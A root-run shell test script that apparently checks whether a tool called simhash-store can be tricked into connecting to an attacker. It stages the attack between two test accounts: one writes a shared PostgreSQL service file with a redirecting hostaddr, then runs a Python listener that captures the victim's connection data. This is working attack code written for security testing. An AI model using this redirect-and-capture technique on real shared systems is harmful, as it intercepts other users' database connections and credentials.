#!/bin/sh
# Run as root. h17alice (victim) has a shared profile's PGSERVICE=team, PGSERVICEFILE in a team
# folder h17mallory may write. h17mallory reads the embedded server's port from /proc/net/unix
# (world-readable), adds hostaddr=127.0.0.2 to the service file and listens on that port.
# Usage: hostile/service_file_hostaddr_redirect.sh VENV   (e.g. ~h17alice/venv-main or ~h17alice/venv)
VENV=${1:-/home/h17alice/venv}
set -u
mkdir -p /tmp/h17team && chown h17mallory /tmp/h17team && chmod 0755 /tmp/h17team
su h17mallory -c 'printf "[team]\nhost=db.example\n" > /tmp/h17team/pg_service.conf; chmod 644 /tmp/h17team/pg_service.conf'
ENVS="PGSERVICEFILE=/tmp/h17team/pg_service.conf PGSERVICE=team"
# the victim starts her store once (the service file names another host: not used for a socket)
su - h17alice -c "env $ENVS $VENV/bin/simhash-store stats >/dev/null 2>&1; true"
# the embedded server's socket is .s.PGSQL.5432 (no TCP listener, so always the default port; it
# also shows in /proc/net/unix while the server runs). 127.0.0.1:5432 may be another server's:
# any 127/8 address will do.
PORT=5432
su h17mallory -c "printf '[team]\nhostaddr=127.0.0.2\n' > /tmp/h17team/pg_service.conf"
su h17mallory -c "/usr/bin/python3 -c '
import socket,sys
s=socket.socket(); s.setsockopt(socket.SOL_SOCKET,socket.SO_REUSEADDR,1); s.bind((\"127.0.0.2\",$PORT)); s.listen(); s.settimeout(90)
try:
    for _ in range(1):
        c,_=s.accept(); d=c.recv(4096)
        if d[4:8]==bytes([4,210,22,47]) or d[4:8]==bytes([4,210,22,48]): c.send(b\"N\"); d=c.recv(4096)
        print(\"MALLORY GOT:\", d, flush=True); c.close()
except socket.timeout: print(\"mallory got nothing\")
' > /tmp/h17team/got.txt 2>&1 &"
sleep 1
su - h17alice -c "env $ENVS timeout 60 $VENV/bin/simhash-store stats 2>&1 | tail -2"
for i in $(seq 100); do [ -s /tmp/h17team/got.txt ] && break; sleep 1; done; cat /tmp/h17team/got.txt
